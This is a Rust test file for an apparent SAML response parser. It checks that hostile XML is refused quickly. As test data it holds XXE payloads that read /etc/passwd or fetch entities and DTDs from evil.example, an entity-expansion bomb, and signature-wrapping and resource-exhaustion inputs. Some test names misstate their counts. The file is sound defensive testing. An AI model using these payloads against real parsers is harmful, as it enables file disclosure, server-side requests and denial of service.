//! XML that tries what a reader can bear: refused before it is read, and in bounded time.

#![expect(
    clippy::disallowed_types,
    clippy::disallowed_methods,
    reason = "how long it takes is what is tested"
)]

use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use latchkey_core::Stage::{Answered, Signed};
use latchkey_core::saml::response::LARGEST;

use super::hostile::element;
use super::message::*;

#[test]
fn xml_that_readers_differ_about_is_refused_before_it_is_read() {
    let message = signed(ANSWER);
    let declared = |declaration: &str| format!("{declaration}{message}");
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(message.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    refused(utf16, Answered, "xml_not_utf8");
    let utf16: Vec<u8> = message.encode_utf16().flat_map(u16::to_be_bytes).collect();
    refused(utf16, Answered, "xml_not_utf8");
    for (message, code) in [
        (declared("<!DOCTYPE samlp:Response>"), "xml_has_doctype"),
        (
            declared("<!DOCTYPE r [<!ENTITY x \"y\">]>"),
            "xml_has_doctype",
        ),
        (
            declared("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
            "xml_has_doctype",
        ),
        (
            declared("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/x\"> %x;]>"),
            "xml_has_doctype",
        ),
        (
            declared("<!DOCTYPE r [<!ATTLIST r ID CDATA \"r\">]>"),
            "xml_has_doctype",
        ),
        (
            declared("<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">"),
            "xml_has_doctype",
        ),
        (
            declared(
                "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
            ),
            "xml_has_doctype",
        ),
        (
            declared("<?xml version=\"1.1\"?>"),
            "xml_version_not_accepted",
        ),
        (
            declared("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"),
            "xml_not_utf8",
        ),
        (
            swapped(&message, "<saml:Subject>", "<saml:Subject><?x y?>"),
            "xml_has_instruction",
        ),
        (swapped(&message, "SecOps", "Sec\0Ops"), "xml_has_nul"),
        (swapped(&message, "SecOps", "&ops;"), "xml_malformed"),
        (swapped(&message, "SecOps", "Sec\u{1}Ops"), "xml_malformed"),
        (
            swapped(&message, "ID=\"a\"", "ID=\"a\" ID=\"a\""),
            "xml_malformed",
        ),
        (format!("{message}x"), "xml_malformed"),
        (format!("{message}{message}"), "xml_malformed"),
        (message[..message.len() - 20].to_owned(), "xml_malformed"),
        (message[..message.len() / 2].to_owned(), "xml_malformed"),
    ] {
        refused(&message, Answered, code);
        refused(STANDARD.encode(&message), Answered, code);
    }
    // A byte order mark, a declaration and white space around are usual.
    let usual = format!(
        "\u{FEFF}<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n{message}\n"
    );
    assert!(accepted(&usual).is_empty());
}

#[test]
fn what_is_too_much_is_refused_in_bounded_time() {
    let message = signed(ANSWER);
    let signature = element(&message, "ds:Signature");
    let attribute = "<saml:Attribute Name=\"groups\">";
    let put = |what: String| swapped(&message, attribute, &format!("{what}{attribute}"));
    let numbered =
        |count: usize, one: &dyn Fn(usize) -> String| (0..count).map(one).collect::<String>();
    for (name, message, code) in [
        (
            "100,000 elements inside each other",
            "<a>".repeat(100_000),
            "xml_too_deep",
        ),
        (
            "the same in the message",
            put("<a>".repeat(1_000)),
            "xml_too_deep",
        ),
        (
            "20,000 attributes",
            put(format!(
                "<a{}/>",
                numbered(20_000, &|n| format!(" a{n}=\"\""))
            )),
            "xml_too_many_attributes",
        ),
        (
            "20,000 namespaces",
            put(format!(
                "<a{}/>",
                numbered(10_000, &|n| format!(" xmlns:a{n}=\"urn:{n}\""))
            )),
            "xml_too_many_attributes",
        ),
        (
            "150,000 elements",
            put("<a/>".repeat(120_000)),
            "xml_too_many_nodes",
        ),
        (
            "half a megabyte",
            put(format!("<!--{}-->", "x".repeat(LARGEST))),
            "saml_answer_too_large",
        ),
    ] {
        let begun = Instant::now();
        refused(&message, Answered, code);
        assert!(
            begun.elapsed() < Duration::from_secs(5),
            "{name}: {:?}",
            begun.elapsed()
        );
    }
    let begun = Instant::now();
    refused(put(signature.repeat(300)), Signed, "signature_misplaced");
    let transforms = "<ds:Transforms>";
    let many = swapped(
        &message,
        transforms,
        &format!(
            "{transforms}{}",
            "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>".repeat(3_000)
        ),
    );
    refused(many, Signed, "transforms_differ");
    let reference = element(&message, "ds:Reference");
    refused(
        swapped(&message, &reference, &reference.repeat(1_000)),
        Signed,
        "reference_twice",
    );
    assert!(
        begun.elapsed() < Duration::from_secs(10),
        "{:?}",
        begun.elapsed()
    );
}

/// 5,000 groups: as large as real answers are.
#[test]
fn a_large_answer_is_read_whole() {
    let groups: String = (0..4_000)
        .map(|number| {
            format!("<saml:AttributeValue>group-{number:05}-of-the-company</saml:AttributeValue>")
        })
        .collect();
    let message = changed(
        "<saml:AttributeValue>Everyone",
        &format!("{groups}<saml:AttributeValue>Everyone"),
    );
    for message in [signed(&message), response_signed(&message)] {
        assert!(message.len() < LARGEST && message.len() > 250_000);
        let verdict = judged(&message);
        assert!(verdict.passed());
        assert_eq!(verdict.claims.values("groups").len(), 4_002);
    }
}
